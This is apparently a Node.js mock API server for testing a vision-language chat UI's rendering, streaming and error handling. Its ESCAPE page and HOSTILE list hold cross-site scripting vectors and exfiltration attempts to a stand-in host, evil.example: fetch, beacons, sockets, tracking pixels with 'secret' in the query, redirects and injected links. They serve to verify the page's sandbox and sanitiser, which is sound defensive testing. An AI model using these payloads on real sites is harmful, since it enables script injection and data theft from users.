// The page's built files under the server's own policy, and an API whose answers are known. `node mock.mjs 8099` to try the page by hand.
import { createServer } from 'node:http';
import { existsSync, readFileSync } from 'node:fs';
import { extname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const ui = fileURLToPath(new URL('../../crates/server/ui/', import.meta.url));
const policy = (name) => readFileSync(join(ui, `policy-${name}.txt`), 'utf8').trim();
const TYPES = { '.txt': 'text/plain; charset=utf-8', '.html': 'text/html; charset=utf-8', '.js': 'text/javascript; charset=utf-8', '.css': 'text/css; charset=utf-8', '.woff2': 'font/woff2', '.png': 'image/png' };

const BOXES = 'Two things:\n\n```json\n[\n  {"bbox_2d": [100, 200, 400, 600], "label": "red square"},\n  {"bbox_2d": [500, 500, 800, 900], "label": "blue square"},\n  {"point_2d": [750, 250], "label": "a point"}\n]\n```\n\nThe <ref>left one</ref><box>(100,200),(400,600)</box> is red.';
// As models write them: Qwen2-VL's tokens, a list without labels, a pair of brackets, Molmo's points, half a mark at the end.
const FORMS = 'One <|object_ref_start|>cat<|object_ref_end|><|box_start|>(100,100),(200,200)<|box_end|>, <box>[[300, 100, 400, 200]]</box>, {"bbox": [500, 100, 600, 200], "name": "dog"}, <point x="75" y="15" alt="tail">tail</point> and <box>(9';
const CODE = 'First `src/main.py`:\n\n```python\n# src/main.py\nprint("hello")\n```\n\nThen a page:\n\n```html\n<!doctype html><style>p{color:rgb(1,2,3)}</style><p id="p">start</p><script>document.getElementById("p").textContent = "alive " + origin + (() => { try { return parent.document.title } catch { return " alone" } })()</script>\n```\n\nAnd\n\n```rust\nfn main() {}\n```\n\n```../../etc/passwd.sh\necho no\n```\n';
// A page that wants out: every way to reach another server, the page around it, or a window of its own.
const ESCAPE = `<!doctype html><meta http-equiv="refresh" content="1;url=https://evil.example/refresh"><link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="https://evil.example"><img src="https://evil.example/img"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form" method="post"><input name="q" value="secret"></form><p id="p">start</p><script>
const tried = [];
const run = (name, what) => { try { what(); tried.push(name); } catch (e) { tried.push(name + ' refused'); } };
run('fetch', () => fetch('https://evil.example/fetch').catch(() => {}));
run('own server', () => fetch('/v1/models').catch(() => {}));
run('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
run('socket', () => new WebSocket('wss://evil.example/socket'));
run('events', () => new EventSource('https://evil.example/events'));
run('worker', () => new Worker('data:text/javascript,fetch("https://evil.example/worker")'));
run('open', () => { if (open('https://evil.example/open')) throw 0; });
run('top', () => { top.location = 'https://evil.example/top'; });
run('parent', () => { parent.hacked = 1; });
run('store', () => localStorage.length);
run('form', () => document.forms[0].submit());
document.getElementById('p').textContent = 'tried ' + tried.length;
setTimeout(() => { location = 'https://evil.example/self?q=secret'; }, 300);
</script>`;
const RICH = '# Heading\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\nInline $e^{i\\pi}+1=0$ and\n\n$$\\int_0^1 x^2\\,dx = \\frac13$$\n\nIt costs $5 and $6.\n\n- one\n- **two**\n\n> quoted\n\n[a link](https://example.com/)';
export const HOSTILE = [
  '<script>window.hacked = 1</script>', '<img src=x onerror="window.hacked = 2">', '<svg onload="window.hacked = 3"></svg>', '<iframe src="javascript:parent.hacked=4"></iframe>',
  '[click](javascript:window.hacked=5)', '[click](JaVaScRiPt:window.hacked=6)', '[click](data:text/html,<script>parent.hacked=7</script>)', '[click](vbscript:hacked)',
  '![pixel](http://127.0.0.1:1/steal.png)', '![pixel](https://evil.example/steal.png?q=secret)', '![x](data:image/svg+xml,<svg onload=hacked=8>)',
  '<a href="x" onclick="hacked=9">x</a>', '<style>body{display:none}</style>', '<form action="https://evil.example"><input name=q><button>go</button></form>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '```html"onmouseover="hacked=10\nx\n```', '$\\href{javascript:hacked=11}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\includegraphics{https://evil.example/x.png}$',
  '{"bbox_2d": [0, 0, 1000, 1000], "label": "<img src=x onerror=hacked=12>"}', '<button data-act="preview">x</button>', '[ref]: javascript:hacked=13', '[x][ref]', '&#x6A;avascript:alert(1)', '<https://evil.example/auto>',
].join('\n\n');

const words = (text) => text.match(/\s*\S+\s*/g) ?? [];

/** What is answered to a question. */
function script(text, body, state) {
  const has = (s) => text.includes(s);
  if (has('boxes')) return { text: BOXES };
  if (has('long code')) return { text: `\`\`\`html\n<!doctype html>${'<p>line</p>\n'.repeat(400)}<p id="end">end</p>\n\`\`\`\n`, step: 200 };
  if (has('escape')) return { text: `\`\`\`html\n${ESCAPE.replaceAll('evil.example', state.evil).replaceAll('https:', 'http:').replaceAll('wss:', 'ws:')}\n\`\`\`\n` };
  if (has('code')) return { text: CODE };
  if (has('rich')) return { text: RICH };
  if (has('hostile')) return { text: HOSTILE };
  if (has('a megabyte')) return { text: 'Some *text* with `code` and [links](https://a.b/c).\n\n'.repeat(20_000), step: 20_000 };
  if (has('huge')) return { text: `${'# x *y* `z` [a](b) '.repeat(25_000)}`, step: 20_000 };
  if (has('deep')) return { text: `${'> '.repeat(5000)}deep ${'['.repeat(5000)}`, step: 1500 };
  if (has('prefill')) return { text: 'late', first: 20_000 };
  if (has('slow')) return { text: Array.from({ length: 400 }, (_, i) => `word${i} `).join(''), pause: 40 };
  if (has('when')) return { text: 'It begins at 0:01 and the ball falls at <2.5 seconds>. Nothing at 12.30 euros.' };
  if (has('where in the document')) return { text: 'See page 2 for the total.' };
  if (has('think')) return { reasoning: 'Let me look at it closely.', text: 'I have thought.' };
  if (has('weather') && body.messages.at(-1).role === 'user') return { calls: [{ id: 'call_1', name: 'weather', arguments: '{"city": "Berlin"}' }] };
  if (has('weather')) return { text: `It is ${body.messages.at(-1).content}.` };
  if (has('press it')) return { calls: [{ id: 'call_2', name: 'click', arguments: '{"target": {"bbox_2d": [250, 250, 750, 750], "label": "OK"}}' }] };
  if (has('forms')) return { text: FORMS };
  if (has('break')) {
    const whole = 'The connection breaks in the middle of this sentence but nothing is lost.';
    const last = body.messages.at(-1);
    if (body.continue_final_message) return { text: whole.slice(last.content.length) };
    return { text: whole, cut: 5 };
  }
  if (has('busy') && !state.busy++) return { status: 429, headers: { 'retry-after': '1' }, error: { message: 'The server is overloaded.', type: 'rate_limit_exceeded', param: null, code: 'server_is_overloaded' } };
  if (has('bad picture')) return { status: 400, error: { message: 'The image could not be decoded.', type: 'invalid_request_error', param: `messages[${body.messages.length - 1}].content[1].image_url.url`, code: 'image_parse_error' } };
  if (has('clip')) return { status: 400, error: { message: "Content parts of the type 'video_url' are not supported by this server yet.", type: 'invalid_request_error', param: `messages[${body.messages.length - 1}].content[0]`, code: 'unsupported_content' } };
  if (has('short')) return { text: 'This is cut', finish: 'length' };
  return { text: `Answer ${++state.count} to: ${text}`, pause: 25 };
}

export async function startMock(port = 0) {
  const state = { requests: [], busy: 0, count: 0, open: 0, aborted: 0, needKey: '' };
  const server = createServer(async (request, response) => {
    const { pathname } = new URL(request.url, 'http://x');
    const json = (status, value, headers = {}) => response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(value));
    if (pathname === '/' || pathname.startsWith('/ui/')) return file(pathname, response);
    if (state.needKey && request.headers.authorization !== `Bearer ${state.needKey}`) {
      return json(401, { error: { message: 'Incorrect API key provided.', type: 'invalid_request_error', param: null, code: 'invalid_api_key' } });
    }
    if (pathname === '/server.json') {
      return json(200, {
        version: '0.1.0', limits: { body_bytes: 67108864, images_per_request: 64 },
        models: [{ id: 'mock-vl', aliases: ['gpt-4o'], context_length: 4096, runtime: 'native', quantization: 'q8', video: false, thinking: false, vision: { factor: 32, min_pixels: 65536, max_pixels: 16777216 }, defaults: { temperature: 0.7, top_p: 0.8, top_k: 20 } }],
      });
    }
    if (pathname === '/metrics') return response.writeHead(200, { 'content-type': 'text/plain' }).end(metrics(state));
    if (pathname === '/v1/chat/completions') {
      let text = '';
      for await (const piece of request) text += piece;
      const body = JSON.parse(text);
      state.requests.push(body);
      return chat(body, response, state);
    }
    json(404, { error: { message: 'Invalid URL', type: 'invalid_request_error', param: null, code: 'unknown_url' } });
  });
  await new Promise((done) => server.listen(port, '127.0.0.1', done));
  const address = `http://127.0.0.1:${server.address().port}`;
  return { address, state, close: () => { server.closeAllConnections(); return new Promise((done) => server.close(done)); } };
}

function file(pathname, response) {
  const name = pathname === '/' ? 'index.html' : pathname.slice('/ui/'.length);
  const at = join(ui, 'dist', name);
  if (!/^[\w.-]+$/.test(name) || !existsSync(at)) return response.writeHead(404).end();
  response.writeHead(200, {
    'content-type': TYPES[extname(name)], 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer', 'x-dns-prefetch-control': 'off',
    'content-security-policy': policy(name === 'preview.html' ? 'preview' : 'page'),
  }).end(readFileSync(at));
}

async function chat(body, response, state) {
  const asked = body.messages.findLast((m) => m.role === 'user').content;
  const text = typeof asked === 'string' ? asked : asked.filter((p) => p.type === 'text').map((p) => p.text).join('\n');
  const plan = script(text, body, state);
  if (plan.error) return response.writeHead(plan.status, { 'content-type': 'application/json', ...plan.headers }).end(JSON.stringify({ error: plan.error }));
  state.open++;
  let gone = false;
  response.on('close', () => {
    state.open--;
    if (!response.writableFinished) { gone = true; state.aborted++; }
  });
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const chunk = (delta, finish_reason = null, extra = {}) => response.write(`data: ${JSON.stringify({ id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: body.model, choices: [{ index: 0, delta, finish_reason }], usage: null, ...extra })}\n\n`);
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const seen = body.vlgate?.explain_media && { vlgate: { media: seenOf(body) } };
  chunk({ role: 'assistant', content: '' }, null, seen || {});
  if (plan.first) await Promise.race([wait(plan.first), new Promise((done) => response.on('close', done))]);
  if (gone) return;
  for (const word of words(plan.reasoning ?? '')) chunk({ reasoning_content: word });
  for (const [index, call] of (plan.calls ?? []).entries()) {
    chunk({ tool_calls: [{ index, id: call.id, type: 'function', function: { name: call.name, arguments: '' } }] });
    for (const piece of call.arguments.match(/.{1,6}/gs)) chunk({ tool_calls: [{ index, function: { arguments: piece } }] });
  }
  const pieces = plan.step ? plan.text.match(new RegExp(`[\\s\\S]{1,${plan.step}}`, 'g')) : words(plan.text ?? '');
  for (const [i, word] of pieces.entries()) {
    if (gone) return;
    if (plan.cut === i) {
      // What is on its way when a connection breaks is lost with it: the test says when, having seen the text.
      await new Promise((done) => { state.cut = done; });
      return response.destroy();
    }
    chunk({ content: word });
    await wait(plan.pause ?? 2);
  }
  chunk({}, plan.finish ?? (plan.calls ? 'tool_calls' : 'stop'));
  const images = JSON.stringify(body.messages).split('"image_url":{').length - 1;
  const usage = { prompt_tokens: 20 + 64 * images, completion_tokens: pieces.length, total_tokens: 20 + 64 * images + pieces.length, prompt_tokens_details: { cached_tokens: body.messages.length > 1 ? 16 : 0, image_tokens: 64 * images }, completion_tokens_details: { reasoning_tokens: 0 } };
  if (body.stream_options?.include_usage) chunk({}, null, { choices: [], usage });
  response.end('data: [DONE]\n\n');
}

/** What the model saw, as the server tells it. */
const seenOf = (body) => body.messages.flatMap((m, i) => (Array.isArray(m.content) ? m.content : []).flatMap((p, j) => {
  const param = `messages[${i}].content[${j}].${p.type}`;
  if (p.type === 'image_url') return { param, type: 'image', format: 'png', size: [30, 20], size_seen: [320, 224], tokens: 70, cached: i > 0 };
  if (p.type === 'video_url') return { param, type: 'video', format: 'mp4', codec: 'h264', size: [320, 240], size_seen: [160, 128], tokens: 80, frames: [{ index: 0, time: 0 }, { index: 12, time: 0.5 }], cached: false };
  if (p.type === 'file') return { param, type: 'file', format: 'pdf', tokens: 140, pages: [{ page: 1 }, { page: 2 }], pages_total: 2, cached: false };
  return [];
}));

let asked = 0;
function metrics(state) {
  asked++;
  const wave = Math.sin(asked / 6);
  state.generated = (state.generated ?? 0) + 60 + 30 * wave;
  state.prompt = (state.prompt ?? 0) + 400 + 300 * Math.cos(asked / 9);
  state.hits = (state.hits ?? 0) + 200 + 100 * wave;
  return [
    'vlgate_ready 1', `vlgate_requests_running ${Math.round(3 + 2 * wave)}`, `vlgate_requests_waiting ${Math.max(0, Math.round(2 * wave))}`, 'vlgate_runtime_restarts_total 0',
    `vlgate_prompt_tokens_total ${Math.round(state.prompt)}`, `vlgate_generated_tokens_total ${Math.round(state.generated)}`, `vlgate_prefix_hit_tokens_total ${Math.round(state.hits)}`,
    'vlgate_kv_blocks_total 1024', `vlgate_kv_blocks_free ${Math.round(700 - 200 * wave)}`, `vlgate_http_responses_total{class="2xx"} ${asked * 3}`, `vlgate_http_responses_total{class="4xx"} ${Math.floor(asked / 4)}`, 'vlgate_http_responses_total{class="5xx"} 0', '',
  ].join('\n');
}

if (process.argv[1] === fileURLToPath(import.meta.url)) console.log((await startMock(Number(process.argv[2] ?? 8099))).address);
